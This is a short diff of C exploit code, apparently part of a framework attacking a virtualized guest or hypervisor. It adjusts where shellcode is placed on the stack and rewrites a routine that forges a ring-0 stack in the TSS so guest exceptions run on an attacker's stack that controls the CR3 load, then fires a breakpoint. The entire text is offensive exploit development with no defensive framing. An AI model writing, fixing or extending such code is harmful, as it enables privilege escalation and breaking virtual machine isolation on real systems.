@@ -133,7 +133,7 @@ static void shellcode(word page)
 
 static void shellcode_heap(void) { shellcode(heap_pages(0)); }
 static void shellcode_data(void) { shellcode(data("attack_data_page")); }
-static void shellcode_stack(void) { shellcode((fact(FACT_GUEST_FRAME, 0) & ~0x7fffUL) + 0x6000); }
+static void shellcode_stack(void) { shellcode((fact(FACT_GUEST_FRAME, 0) & ~(PAGE - 1)) - PAGE); }
 
 static void breakpoint(void) { asm volatile ("int3"); }
 
@@ -187,9 +187,9 @@ static void guest_gdt(void)
 /* Exceptions of guests then run on a stack of the attacker's, at whose end stands what their entry loads CR3 from. */
 static void tss_stack(void)
 {
-    word rip = fact(FACT_GUEST_FRAME, 0), stack = forged_stack(rip & ~(STACK_SIZE - 1), "do_int3");
+    word rip = fact(FACT_GUEST_FRAME, 0), inside = stack_size() - 1, stack = forged_stack(rip & ~inside, "do_int3");
 
-    poke(fact(FACT_TSS, 0) + TSS_RING0, stack + (rip & (STACK_SIZE - 1)) + FRAME_SIZE);
+    poke(fact(FACT_TSS, 0) + TSS_RING0, stack + (rip & inside) + FRAME_SIZE);
     breakpoint();
 }
 
